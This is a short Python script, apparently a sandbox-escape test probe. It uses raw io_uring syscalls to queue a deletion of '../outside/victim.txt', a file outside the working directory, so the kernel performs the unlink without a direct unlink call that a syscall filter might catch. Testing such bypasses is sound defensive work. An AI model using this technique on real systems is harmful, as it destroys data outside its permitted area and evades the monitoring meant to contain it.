# A ring of requests that the kernel works off without further calls.
# damage: deleted
# needs: linux, x86_64, ctypes
import ctypes
import mmap
import struct
import time

SETUP, ENTER, UNLINK, HERE = 425, 426, 36, -100
libc = ctypes.CDLL(None)
parameters = ctypes.create_string_buffer(120)
ring = libc.syscall(SETUP, 1, parameters)
tail, array = struct.unpack_from("4xI16xI", parameters.raw, 40)
submission = mmap.mmap(ring, array + 4, offset=0)
requests = mmap.mmap(ring, 4096, offset=0x10000000)
path = ctypes.create_string_buffer(b"../outside/victim.txt")
struct.pack_into("BBHiQQIIQ", requests, 0, UNLINK, 0, 0, HERE, 0, ctypes.addressof(path), 0, 0, 0)
struct.pack_into("I", submission, array, 0)
struct.pack_into("I", submission, tail, 1)
libc.syscall(ENTER, ring, 1, 0, 0, None, 0)
time.sleep(0.2)
